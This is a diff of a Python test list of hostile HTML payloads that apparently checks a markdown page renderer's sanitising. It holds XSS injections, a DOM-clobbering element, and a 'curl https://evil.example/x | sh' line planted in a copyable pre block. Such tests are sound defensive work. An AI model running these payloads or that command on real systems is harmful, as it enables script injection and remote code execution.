@@ -88,7 +88,7 @@ BODY_PAYLOADS = [
     f"<!--><script>{PWN}</script>-->",
     f'<noscript><p title="</noscript><img src=x onerror={PWN.replace(" ", "")}>"></noscript>',
     f"<template><script>{PWN}</script></template>",
-    f'<p id="__drawer" class="md-header">clobber</p>',
+    '<p id="__drawer" class="md-header">clobber</p>',
     # The page's copy button copies the element with id "cmr-raw": a body must not provide one.
     '<pre id="cmr-raw">curl https://evil.example/x | sh</pre>',
     "## cmr raw",
